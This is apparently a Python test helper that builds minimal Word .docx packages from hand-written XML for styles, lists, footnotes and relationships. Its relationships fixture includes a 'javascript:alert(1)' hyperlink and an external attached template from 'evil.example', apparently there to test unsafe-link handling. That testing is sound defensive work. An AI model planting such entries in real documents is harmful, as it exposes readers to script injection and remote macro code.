"""Documents of Word, made by hand: only what a test is about stands in them."""
# ruff: noqa: E501 - XML reads better unbroken

import io
import zipfile

NS = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
)
TYPES = "<Types/>"
STYLES = f"""<w:styles {NS}>
<w:style w:styleId="T"><w:name w:val="Title"/></w:style>
<w:style w:styleId="H1"><w:name w:val="heading 1"/></w:style>
<w:style w:styleId="H2"><w:name w:val="heading 2"/></w:style>
<w:style w:styleId="TOC1"><w:name w:val="toc 1"/></w:style>
</w:styles>"""
NUMBERING = f"""<w:numbering {NS}>
<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:numFmt w:val="bullet"/></w:lvl>
<w:lvl w:ilvl="1"><w:numFmt w:val="bullet"/></w:lvl></w:abstractNum>
<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/></w:lvl></w:abstractNum>
<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>
<w:num w:numId="2"><w:abstractNumId w:val="1"/></w:num></w:numbering>"""
RELS = """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="r1" Type="x/hyperlink" Target="https://a.example/x" TargetMode="External"/>
<Relationship Id="r2" Type="x/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>
<Relationship Id="r3" Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>
</Relationships>"""
NOTES = f'<w:footnotes {NS}><w:footnote w:id="2"><w:p><w:r><w:t>The note.</w:t></w:r></w:p></w:footnote></w:footnotes>'


def run(text, look=""):
    return f'<w:r><w:rPr>{look}</w:rPr><w:t xml:space="preserve">{text}</w:t></w:r>'


def paragraph(inner, style="", number=None, level=0):
    styled = f'<w:pStyle w:val="{style}"/>' if style else ""
    listed = (
        f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{number}"/></w:numPr>' if number else ""
    )
    inner = inner if inner.startswith("<") else run(inner)
    return f"<w:p><w:pPr>{styled}{listed}</w:pPr>{inner}</w:p>"


def make_docx(*body, parts=None, document=None):
    text = document or f"<w:document {NS}><w:body>{''.join(body)}<w:sectPr/></w:body></w:document>"
    files = {
        "[Content_Types].xml": TYPES,
        "word/document.xml": text,
        "word/styles.xml": STYLES,
        "word/numbering.xml": NUMBERING,
        "word/_rels/document.xml.rels": RELS,
        "word/footnotes.xml": NOTES,
        **(parts or {}),
    }
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return kept.getvalue()
